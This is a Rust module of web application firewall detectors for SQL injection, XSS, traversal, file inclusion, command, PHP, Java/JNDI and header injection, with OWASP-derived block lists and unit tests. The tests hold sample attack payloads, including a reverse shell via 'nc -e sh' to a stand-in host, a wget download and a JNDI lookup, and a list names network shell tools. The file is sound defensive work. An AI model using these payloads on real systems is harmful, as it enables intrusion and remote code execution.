//! WAF payload detectors for edge rules.
//!
//! - **SQL injection and XSS**: `libinjectionrs`, a Rust port of libinjection — a real tokeniser
//!   that classifies the token sequence of a value ("fingerprint") rather than matching substrings.
//!   Chosen because it is pure Rust (the C bindings download their sources at build time).
//! - **Path traversal / LFI**: `..` segments after decoding (URL, double URL, `%u`, backslashes),
//!   and the OS files attackers probe for (OWASP CRS `lfi-os-files`, one Aho-Corasick pass).
//! - **Remote file inclusion**: a URL value whose host is an IP literal, or that ends in `?`
//!   (the classic trick to cut off the including script's suffix).
//! - **Command injection**: a shell separator (`;`, `|`, `&`, `` ` ``, `$(`, newline) followed by a
//!   command word from CRS's `unix-shell` list, the separator being what turns data into a
//!   command line.
//! - **PHP injection**: `<?php`, `php://` wrappers, superglobals (CRS `php-variables`) and
//!   high-risk function names followed by `(` (CRS 933150 list).
//! - **Java injection**: JNDI lookups (`${jndi:`), OGNL/EL markers and the Java classes used by
//!   deserialisation and Struts RCEs (CRS `java-classes`).
//!
//! Values are scanned as sent and after URL decoding (twice, for double encoding). The vocabulary
//! files come from the OWASP Core Rule Set (Apache License 2.0, see `data/CRS-LICENSE.txt`).

use std::collections::HashSet;
use std::sync::OnceLock;

use aho_corasick::{AhoCorasick, AhoCorasickBuilder, MatchKind};

/// What a detector found.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum Attack {
    Sqli,
    Xss,
    Traversal,
    Rfi,
    Cmdi,
    Php,
    Java,
    /// CR/LF injection, request smuggling and response splitting.
    Protocol,
}

impl Attack {
    pub fn as_str(self) -> &'static str {
        match self {
            Attack::Sqli => "sqli",
            Attack::Xss => "xss",
            Attack::Traversal => "traversal",
            Attack::Rfi => "rfi",
            Attack::Cmdi => "cmdi",
            Attack::Php => "php",
            Attack::Java => "java",
            Attack::Protocol => "protocol",
        }
    }
}

struct Vocabulary {
    os_files: AhoCorasick,
    shell_commands: HashSet<String>,
    php_functions: HashSet<String>,
    php_variables: AhoCorasick,
    java: AhoCorasick,
    /// Shell variables (`$IFS`, `${SHELL}`) and PowerShell cmdlets: command injection by name.
    shell_tokens: AhoCorasick,
}

/// Commands that are evidence on their own after a shell separator.
const STRONG_COMMANDS: &[&str] = &[
    "id", "whoami", "uname", "ifconfig", "ipconfig", "netstat", "passwd", "sh", "bash", "zsh",
    "ksh", "csh", "dash", "busybox", "nc", "ncat", "netcat", "wget", "curl", "telnet", "reboot",
    "shutdown", "halt", "ps", "ls", "pwd", "env", "printenv", "sleep", "python", "python3", "perl",
    "ruby", "php", "lua", "nslookup", "dig", "ping", "hostname", "crontab", "sudo", "su", "chmod",
    "chown", "rm", "mkfifo", "xterm",
];

/// SQL functions that show up in injection payloads but rarely in form text as `name(`.
const SQL_FUNCTIONS: &[&str] = &[
    "benchmark",
    "sleep",
    "pg_sleep",
    "waitfor",
    "concat",
    "concat_ws",
    "group_concat",
    "coalesce",
    "compress",
    "uncompress",
    "extractvalue",
    "updatexml",
    "load_file",
    "find_in_set",
    "xmltype",
    "utl_inaddr",
    "utl_http",
    "dbms_pipe",
    "dbms_xmlgen",
    "sqlite_version",
    "sqlite_compileoption_used",
    "sqlite_compileoption_get",
    "json_build_object",
    "jsonb_pretty",
    "unistr",
    "starts_with",
    "char_length",
    "ascii",
    "substring",
    "substr",
    "mid",
    "ord",
    "hex",
    "unhex",
    "md5",
    "sha1",
    "current_user",
    "session_user",
    "system_user",
    "database",
    "schema",
    "version",
    "row_count",
    "information_schema",
    "pg_read_file",
    "lo_import",
    "xp_cmdshell",
    "openrowset",
    "ctxsys",
    "name_const",
    "make_set",
    "elt",
    "export_set",
    "geometrycollection",
    "multipoint",
    "polygon",
    "linestring",
    "exp",
    "floor",
    "rand",
    "if",
    "ifnull",
    "nullif",
    "isnull",
    "char",
    "chr",
    "cast",
    "convert",
];

fn entries(text: &str) -> impl Iterator<Item = &str> {
    text.lines()
        .map(str::trim)
        .filter(|l| !l.is_empty() && !l.starts_with('#'))
}

fn ac(patterns: Vec<String>) -> AhoCorasick {
    AhoCorasickBuilder::new()
        .ascii_case_insensitive(true)
        .match_kind(MatchKind::LeftmostFirst)
        .build(patterns)
        .expect("vocabulary builds")
}

fn vocabulary() -> &'static Vocabulary {
    static V: OnceLock<Vocabulary> = OnceLock::new();
    V.get_or_init(|| {
        let os_files: Vec<String> = entries(include_str!("data/crs-lfi-os-files.txt"))
            .map(|e| e.trim_start_matches('/').to_string())
            // Very short entries (".env") are too common in benign text to be evidence alone.
            .filter(|e| e.len() >= 6)
            .collect();
        let shell_commands = entries(include_str!("data/crs-unix-shell.txt"))
            .filter(|e| !e.starts_with('$'))
            .map(|e| e.rsplit('/').next().unwrap_or(e).to_ascii_lowercase())
            .filter(|e| !e.is_empty())
            .collect();
        let php_functions = entries(include_str!("data/crs-php-function-names-933150.txt"))
            .map(|e| e.to_ascii_lowercase())
            .collect();
        let php_variables = entries(include_str!("data/crs-php-variables.txt"))
            .filter(|e| e.starts_with('$'))
            .map(str::to_string)
            .collect();
        let mut java: Vec<String> = entries(include_str!("data/crs-java-classes.txt"))
            .filter(|e| e.contains('.') || e.len() >= 10)
            .map(str::to_string)
            .collect();
        java.extend(
            [
                "${jndi:",
                "${ctx:",
                "${env:",
                "${sys:",
                "%{(#",
                "#_memberaccess",
                "@java.lang",
                "${script:",
                "t(java.lang",
            ]
            .map(String::from),
        );
        let mut shell_tokens: Vec<String> = entries(include_str!("data/crs-unix-shell.txt"))
            .filter(|e| e.starts_with('$'))
            .map(str::to_string)
            .collect();
        shell_tokens.extend(
            entries(include_str!("data/crs-windows-powershell-commands.txt"))
                .filter(|e| e.contains('-') && e.len() >= 8)
                .map(str::to_string),
        );
        Vocabulary {
            shell_tokens: ac(shell_tokens),
            os_files: ac(os_files),
            shell_commands,
            php_functions,
            php_variables: ac(php_variables),
            java: ac(java),
        }
    })
}

/// Percent-decoding (`+` as space, `%uXXXX` too); invalid escapes are kept as they are.
pub fn url_decode(s: &str) -> String {
    let b = s.as_bytes();
    let mut out = Vec::with_capacity(b.len());
    let hex = |c: u8| (c as char).to_digit(16).map(|d| d as u8);
    let mut i = 0;
    while i < b.len() {
        match b[i] {
            b'+' => {
                out.push(b' ');
                i += 1;
            }
            b'%' => {
                if i + 6 <= b.len() && (b[i + 1] == b'u' || b[i + 1] == b'U') {
                    let c = std::str::from_utf8(&b[i + 2..i + 6])
                        .ok()
                        .and_then(|h| u32::from_str_radix(h, 16).ok())
                        .and_then(char::from_u32);
                    if let Some(c) = c {
                        let mut buf = [0u8; 4];
                        out.extend_from_slice(c.encode_utf8(&mut buf).as_bytes());
                        i += 6;
                        continue;
                    }
                }
                if i + 2 < b.len() {
                    if let (Some(h), Some(l)) = (hex(b[i + 1]), hex(b[i + 2])) {
                        out.push(h * 16 + l);
                        i += 3;
                        continue;
                    }
                }
                out.push(b'%');
                i += 1;
            }
            c => {
                out.push(c);
                i += 1;
            }
        }
    }
    String::from_utf8_lossy(&out).into_owned()
}

fn traversal(v: &str) -> bool {
    let norm = v.replace('\\', "/");
    let dotdot = norm.contains("../") || norm.ends_with("/..") || norm == "..";
    if dotdot {
        return true;
    }
    // An OS file probed by name, as a path (not merely a word in a sentence).
    vocabulary().os_files.find_iter(&norm).any(|m| {
        let before = norm[..m.start()].chars().last();
        matches!(before, None | Some('/') | Some('=') | Some(':'))
    })
}

fn rfi(v: &str) -> bool {
    let lower = v.trim().to_ascii_lowercase();
    let Some(rest) = ["http://", "https://", "ftp://", "ftps://", "file://"]
        .iter()
        .find_map(|p| lower.strip_prefix(p))
    else {
        return false;
    };
    let host = rest
        .split(['/', '?', '#'])
        .next()
        .unwrap_or("")
        .rsplit('@')
        .next()
        .unwrap_or("");
    let host = host.split(':').next().unwrap_or("");
    host.parse::<std::net::Ipv4Addr>().is_ok()
        || lower.ends_with('?')
        || lower.starts_with("file://")
}

fn cmdi(v: &str) -> bool {
    let vocab = vocabulary();
    if vocab.shell_tokens.is_match(v) {
        return true;
    }
    // A command named by its path: `/bin/sh`, `bin/ansible`, `/usr/bin/perl`.
    for (i, _) in v.match_indices("bin/") {
        let before = v[..i].chars().last();
        if matches!(before, None | Some('/')) || v[..i].ends_with("s") && v[..i].ends_with("/s") {
            let word: String = v[i + 4..]
                .chars()
                .take_while(|c| c.is_ascii_alphanumeric() || matches!(c, '_' | '-' | '.'))
                .collect();
            if vocab.shell_commands.contains(&word.to_ascii_lowercase()) {
                return true;
            }
        }
    }
    let bytes = v.as_bytes();
    let mut i = 0;
    while i < bytes.len() {
        let sep_len = match bytes[i] {
            b';' | b'|' | b'&' | b'`' | b'\n' => 1,
            b'$' if bytes.get(i + 1) == Some(&b'(') => 2,
            _ => 0,
        };
        if sep_len == 0 {
            i += 1;
            continue;
        }
        i += sep_len;
        // The next word, unquoted, without a leading path.
        let rest = &v[i..];
        let word: String = rest
            .trim_start_matches([' ', '\t', '|', '&', '(', '{', '\'', '"'])
            .chars()
            .take_while(|c| {
                !c.is_whitespace()
                    && !matches!(c, ';' | '|' | '&' | '`' | ')' | '<' | '>' | '\'' | '"')
            })
            .collect::<String>()
            .replace(['\'', '"', '\\'], "");
        let cmd = word
            .rsplit('/')
            .next()
            .unwrap_or(&word)
            .to_ascii_lowercase();
        if cmd.len() >= 2 && vocab.shell_commands.contains(&cmd) {
            // Many command names are also words ("touch", "nl", "arch"): demand a command line —
            // an argument after the word — unless the command is unmistakable on its own.
            let after = rest
                .trim_start_matches([' ', '\t', '|', '&', '(', '{', '\'', '"'])
                .get(word.len()..)
                .unwrap_or("");
            let has_arg = after.starts_with([' ', '\t'])
                && after.trim_start().starts_with(|c: char| {
                    c.is_ascii_alphanumeric()
                        || matches!(c, '/' | '-' | '$' | '.' | '~' | '*' | '\'' | '"')
                });
            if has_arg || STRONG_COMMANDS.contains(&cmd.as_str()) {
                return true;
            }
        }
    }
    false
}

fn php(v: &str) -> bool {
    let lower = v.to_ascii_lowercase();
    if lower.contains("<?php") || lower.contains("<?=") || lower.contains("php://") {
        return true;
    }
    let vocab = vocabulary();
    if vocab.php_variables.is_match(v) {
        return true;
    }
    // A high-risk function name followed by `(`.
    let found = called_names(&lower).any(|name| vocab.php_functions.contains(name));
    found
}

/// Identifiers immediately followed (spaces and tabs allowed) by `(`.
fn called_names(text: &str) -> impl Iterator<Item = &str> {
    let b = text.as_bytes();
    let mut i = 0;
    std::iter::from_fn(move || {
        while i < b.len() {
            if b[i].is_ascii_alphabetic() || b[i] == b'_' {
                let start = i;
                while i < b.len() && (b[i].is_ascii_alphanumeric() || b[i] == b'_') {
                    i += 1;
                }
                let mut j = i;
                while j < b.len() && (b[j] == b' ' || b[j] == b'\t') {
                    j += 1;
                }
                if b.get(j) == Some(&b'(') {
                    return Some(&text[start..i]);
                }
            } else {
                i += 1;
            }
        }
        None
    })
}

fn protocol(v: &str) -> bool {
    // A line break followed by something an HTTP parser would read as a header or request line.
    v.split(['\r', '\n']).skip(1).any(|line| {
        let l = line.trim_start();
        l.contains("HTTP/")
            || l.split_once(':').is_some_and(|(name, _)| {
                !name.is_empty()
                    && name.len() < 40
                    && name.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'-')
            })
    })
}

fn sql_function_call(v: &str) -> bool {
    let lower = v.to_ascii_lowercase();
    let found = called_names(&lower).any(|word| {
        if !SQL_FUNCTIONS.contains(&word) {
            return false;
        }
        // "if (" and friends are ordinary words in prose; demand SQL-ish company for them.
        let common = matches!(
            word,
            "if" | "char"
                | "cast"
                | "convert"
                | "exp"
                | "floor"
                | "version"
                | "database"
                | "schema"
                | "mid"
                | "hex"
                | "ord"
                | "ascii"
        );
        !common || lower.contains("select") || lower.contains("--") || lower.contains('\'')
    });
    found
}

fn java(v: &str) -> bool {
    vocabulary().java.is_match(v)
}

/// Scans one value with every detector; the first that fires wins.
pub fn scan_value(v: &str) -> Option<Attack> {
    if v.len() < 2 {
        return None;
    }
    let once = url_decode(v);
    let twice = if once.contains('%') {
        url_decode(&once)
    } else {
        once.clone()
    };
    let mut candidates = vec![v];
    if once != v {
        candidates.push(&once);
    }
    if twice != once {
        candidates.push(&twice);
    }
    for c in candidates {
        if let Some(a) = scan_decoded(c) {
            return Some(a);
        }
    }
    None
}

fn scan_decoded(v: &str) -> Option<Attack> {
    if java(v) {
        return Some(Attack::Java);
    }
    if php(v) {
        return Some(Attack::Php);
    }
    if traversal(v) {
        return Some(Attack::Traversal);
    }
    if rfi(v) {
        return Some(Attack::Rfi);
    }
    if libinjectionrs::detect_sqli(v.as_bytes()).is_injection() || sql_function_call(v) {
        return Some(Attack::Sqli);
    }
    if libinjectionrs::detect_xss(v.as_bytes()).is_injection() {
        return Some(Attack::Xss);
    }
    if cmdi(v) {
        return Some(Attack::Cmdi);
    }
    if protocol(v) {
        return Some(Attack::Protocol);
    }
    None
}

/// Splits a query string or form body into names and values (both scanned).
pub fn form_parts(s: &str) -> impl Iterator<Item = &str> {
    s.split('&')
        .flat_map(|kv| kv.splitn(2, '='))
        .filter(|p| !p.is_empty())
}

/// Every string in a JSON value (keys and leaves).
pub fn json_strings<'a>(v: &'a serde_json::Value, out: &mut Vec<&'a str>) {
    match v {
        serde_json::Value::String(s) => out.push(s),
        serde_json::Value::Array(a) => a.iter().for_each(|x| json_strings(x, out)),
        serde_json::Value::Object(m) => {
            for (k, x) in m {
                out.push(k);
                json_strings(x, out);
            }
        }
        _ => {}
    }
}

/// Headers whose values are not scanned: protocol plumbing and Rampart's own anti-replay headers.
/// Every other header value is attacker-chosen text.
pub const UNSCANNED_HEADERS: &[&str] = &[
    "host",
    "content-length",
    "connection",
    "keep-alive",
    "proxy-connection",
    "accept",
    "accept-encoding",
    "accept-language",
    "x-timestamp",
    "x-nonce",
    "x-signature",
    "x-content-sha256",
    "x-app",
    "x-request-id",
];

/// Scans every attacker-controlled part of a request: path, query names and values, body (form
/// fields, JSON strings, or the raw text), the JSON params, and every header value except the
/// plumbing listed in [`UNSCANNED_HEADERS`].
pub fn scan_request<'a>(
    path: &str,
    query: &str,
    body: &str,
    params: Option<&serde_json::Value>,
    headers: impl Iterator<Item = (&'a str, &'a str)>,
) -> Option<(Attack, &'static str)> {
    if let Some(a) = scan_value(path) {
        return Some((a, "path"));
    }
    for part in form_parts(query) {
        if let Some(a) = scan_value(part) {
            return Some((a, "query"));
        }
    }
    if !body.is_empty() {
        let mut strings = Vec::new();
        let json = serde_json::from_str::<serde_json::Value>(body).ok();
        match &json {
            Some(v) if v.is_object() || v.is_array() => json_strings(v, &mut strings),
            _ if body.contains('=') && !body.contains(['<', '\n']) => {
                strings.extend(form_parts(body))
            }
            _ => strings.push(body),
        }
        for s in strings {
            if let Some(a) = scan_value(s) {
                return Some((a, "body"));
            }
        }
    }
    if let Some(p) = params {
        let mut strings = Vec::new();
        json_strings(p, &mut strings);
        for s in strings {
            if let Some(a) = scan_value(s) {
                return Some((a, "params"));
            }
        }
    }
    for (name, value) in headers {
        if !UNSCANNED_HEADERS
            .iter()
            .any(|h| h.eq_ignore_ascii_case(name))
        {
            let parts: Vec<&str> = if name.eq_ignore_ascii_case("cookie") {
                value
                    .split(';')
                    .flat_map(|kv| kv.splitn(2, '='))
                    .map(str::trim)
                    .collect()
            } else {
                vec![value]
            };
            for v in parts {
                if let Some(a) = scan_value(v) {
                    return Some((a, "header"));
                }
            }
        }
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn detects_classic_payloads() {
        let cases = [
            ("1' OR '1'='1' --", Attack::Sqli),
            ("1 UNION SELECT username, password FROM users", Attack::Sqli),
            ("<script>alert(1)</script>", Attack::Xss),
            ("<img src=x onerror=alert(1)>", Attack::Xss),
            ("../../../../etc/passwd", Attack::Traversal),
            ("..%2f..%2f..%2fetc%2fpasswd", Attack::Traversal),
            ("http://192.168.0.1/shell.txt?", Attack::Rfi),
            ("x; cat /etc/hosts", Attack::Traversal),
            ("127.0.0.1; wget http://evil/x", Attack::Cmdi),
            ("a | nc -e sh evil 4444", Attack::Cmdi),
            ("<?php system('id'); ?>", Attack::Php),
            ("${jndi:ldap://evil/a}", Attack::Java),
        ];
        for (payload, expected) in cases {
            assert_eq!(scan_value(payload), Some(expected), "{payload}");
        }
    }

    #[test]
    fn benign_text_passes() {
        for v in [
            "O'Brien",
            "Conan O'Brien's new show",
            "rock & roll; jazz",
            "price: $100 (incl. VAT)",
            "Straße 12, 10115 Berlin",
            "田中太郎",
            "https://shop.example.com/item/42",
            "I'd like 2 tickets, please!",
            "select your size",
            "SPRING-2026",
            "user@example.com",
            "A & B | C",
        ] {
            assert_eq!(scan_value(v), None, "{v}");
        }
    }

    #[test]
    fn url_decoding() {
        assert_eq!(url_decode("a%20b+c"), "a b c");
        assert_eq!(url_decode("%u003cscript"), "<script");
        assert_eq!(url_decode("100%"), "100%");
        assert_eq!(url_decode("%zz"), "%zz");
        assert_eq!(url_decode("%2"), "%2");
    }
}
